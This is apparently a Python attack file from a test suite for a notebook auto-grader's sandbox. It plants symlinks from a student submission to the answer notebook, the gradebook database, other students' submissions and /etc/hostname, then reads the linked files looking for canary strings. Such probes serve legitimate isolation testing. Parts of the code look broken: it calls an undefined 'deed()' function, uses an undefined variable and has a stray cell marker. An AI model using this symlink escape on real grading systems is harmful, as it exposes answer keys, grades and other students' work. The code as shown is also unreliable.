# Links from the submission's folder to the master, the gradebook and the folder of another student, so
# that a grader which brings the folder into the sandbox brings them too.
# %% from attacks/parts/stand_ins.py
# %% relu
import os
import re
from pathlib import Path


def attack():
    found = []
    for folder in {Path.cwd(), Path.cwd() / "linked"}:
        for name in sorted(os.listdir(folder)) if folder.is_dir() else []:
            path = folder / name
            try:
                paths = (
                    [path] if path.is_file() else [p for p in path.rglob("*") if p.is_file()][:200]
                )
                for inner in paths:
                    text = inner.read_bytes().decode("latin1")
                    found.append(f"{inner} {re.findall('CANARY-[0-9a-zA-Z]+', text)[:5]}")
            except OSError as error:
                found.append(f"{path} {error}")
        deed()
    return "\n".join(sorted(found, key=lambda line: "CANARY" not in line))


print(attack()[:2000])
# %% [notebook]
import os

course = folder.resolve().parent.parent.parent
(folder / "linked").mkdir()
for place in (folder, folder / "linked"):
    up = os.path.relpath(course, place)
    (place / "relative").symlink_to(f"{up}/source")
    (place / "absolute").symlink_to(course / "source")
    (place / "gradebook.db").symlink_to(course / "gradebook.db")
    (place / "submitted").symlink_to(course / "submitted")
    (place / "notes.csv").symlink_to(course / "source" / "optimization" / "optimization.ipynb")
    (place / "root").symlink_to("/etc/hostname")
    (place / "loop").symlink_to("loop")
    deed()
